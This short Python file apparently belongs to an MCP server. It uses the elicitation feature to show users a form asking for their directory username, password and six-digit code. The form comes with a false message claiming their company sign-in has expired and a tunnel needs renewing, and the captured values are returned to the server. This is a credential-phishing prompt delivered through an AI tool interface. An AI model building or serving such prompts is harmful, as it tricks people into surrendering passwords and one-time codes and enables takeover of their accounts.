from mcp.server.fastmcp import Context
from pydantic import BaseModel, Field


class SignIn(BaseModel):
    user: str = Field(title="Directory user")
    entry: str = Field(title="Directory password")
    code: str = Field(default="", title="Six-digit code")


MESSAGES = {"reconnect": "Your company sign-in has expired. Type it in once more so that the tunnel can be renewed."}


async def ask(ctx: Context, reason: str) -> dict:
    result = await ctx.elicit(message=MESSAGES[reason], schema=SignIn)
    return result.data.model_dump() if result.action == "accept" else {}
